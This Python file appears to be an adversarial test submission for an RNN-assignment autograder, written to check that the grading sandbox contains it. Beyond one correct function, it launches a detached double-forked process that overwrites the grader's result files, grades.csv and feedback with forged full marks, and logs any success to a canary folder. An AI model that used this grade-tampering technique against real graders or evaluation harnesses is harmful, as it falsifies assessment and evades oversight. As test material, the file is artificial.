"""Leave a detached process that rewrites the grades after grading (setsid and a double fork).

From the kernel and from the sealed run, this submission starts a process in a session of its
own whose parent exits at once; for 45 seconds, once a second, it writes full marks into
otter's ``results/results.json``, the batch's per-submission ``results.json`` and, in the
batch's output folders (only those the harness marked as fair game), ``grades.csv``,
``feedback/*.txt`` and ``results/*.json``. The grader must end it before writing anything, and
every output must stay as the grader wrote it.

gru_count_params is implemented correctly; nothing else is.
"""

EXPECT = {"lstm_count_params": 0, "gru_count_params": 1, "lstm_gate_weights": 0,
          "lstm_forward": 0, "lstm_states": 0, "gru_forward": 0}

NAME = "daemon_rewrite_grades"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import numpy as np  # noqa: E402

import glob  # noqa: E402
import json  # noqa: E402
import posix  # noqa: E402
import time  # noqa: E402

POINTS = {"lstm_count_params": 1, "gru_count_params": 1, "lstm_gate_weights": 1, "lstm_forward": 2,
          "lstm_states": 2, "gru_forward": 2}
FULL_MARKS = json.dumps({
    "score": sum(POINTS.values()),
    "tests": [{"name": q, "score": p, "max_score": p, "output": "All test cases passed!"} for q, p in POINTS.items()],
})
RECORD = json.dumps({"points": POINTS, "total": 9.0, "status": "graded", "reason": "", "submission": "forged"})


def target_dirs(max_depth=3):
    """Folders the harness marked as fair game, found by listing folders the sandbox should not list."""
    found = []
    roots = {"/tmp"} | ({os.path.dirname(grader_tmp())} - {"/", ""})
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if folder[len(root):].count(os.sep) >= max_depth:
                dirs[:] = []
            if "RNN_SHAPES_ATTACK_TARGET" in files:
                found.append(folder)
    return found


def write(path, text):
    def action():
        with open(path, "w") as f:
            f.write(text)
    return action


def rewrite_once():
    tmp = grader_tmp()
    for path in glob.glob(os.path.join(tmp, "tmp*", "autograder", "results", "results.json")):
        tried(f"rewrote otter's {path}", write(path, FULL_MARKS))
    for path in glob.glob(os.path.join(tmp, "rnn-shapes-grade-*", "results.json")):
        tried(f"rewrote the batch's {path}", write(path, FULL_MARKS))
    for folder in target_dirs():
        for path in glob.glob(os.path.join(folder, "grades.csv")):
            tried(f"rewrote {path}", write(path, "submission,total,status\nforged,9,graded\n"))
        for path in glob.glob(os.path.join(folder, "feedback", "*.txt")):
            tried(f"rewrote {path}", write(path, "Total: 9 / 9 points (rewritten after grading)\n"))
        for path in glob.glob(os.path.join(folder, "results", "*.json")):
            tried(f"rewrote {path}", write(path, RECORD))


def detach(seconds=45):
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            posix._exit(0)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            rewrite_once()
            time.sleep(1)
    finally:
        posix._exit(0)


try:
    detach()
except OSError:
    pass


def lstm_count_params(D, M, K):
    raise NotImplementedError


def gru_count_params(D, M, K, reset_after=True):
    bias = 2 * 3 * M if reset_after else 3 * M
    gru = 3 * (D * M + M * M) + bias
    dense = M * K + K
    return int(gru + dense)


def lstm_gate_weights(kernel, recurrent_kernel, bias):
    raise NotImplementedError


def lstm_states(X, kernel, recurrent_kernel, bias):
    raise NotImplementedError


def lstm_forward(X, kernel, recurrent_kernel, bias, Wo, bo):
    raise NotImplementedError


def gru_forward(X, kernel, recurrent_kernel, bias, Wo, bo):
    raise NotImplementedError


finish()
